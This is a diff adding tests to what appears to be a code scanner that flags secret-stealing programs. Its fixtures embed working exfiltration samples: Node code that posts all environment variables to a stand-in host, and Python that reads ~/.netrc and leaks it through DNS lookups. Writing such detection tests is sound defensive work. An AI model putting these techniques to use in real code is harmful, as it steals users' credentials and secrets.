@@ -413,3 +413,18 @@ it('judges an installer in a sentence by who gives it', () => {
   expect(installs('https://table-sorter.dev')).not.toBe('block')
   expect(installs('https://x9.table-relay.test')).toBe('block')
 })
+
+// WUN-103: a client that is chosen when it runs is followed like one that is named.
+it.each([
+  ["url.startsWith('https') ? https : http", 'block'],
+  ['other', 'pass'],
+])('follows a client that is %s', (client, expected) => {
+  const own = `import https from 'node:https'\nimport http from 'node:http'\nfunction send(url, body) {\n  const client = ${client}\n  const request = client.request(new URL(url), { method: 'POST' })\n  request.end(body)\n}\nconst held = { ...process.env }\nsend('https://table-cdn.test/s', JSON.stringify(held))\n`
+  expect(verdict('a.mjs', own)).toBe(expected)
+})
+
+// WUN-103: no long program looks a name up by chance that holds what a file of keys says.
+it('judges a file of keys that is looked up as a name, however long the program', () => {
+  const own = `${lines}import os, socket\nheld = open(os.path.expanduser("~/.netrc")).read()\nsocket.gethostbyname(held.split()[1] + zone)\n`
+  expect(verdict('a.py', own)).toBe('block')
+})
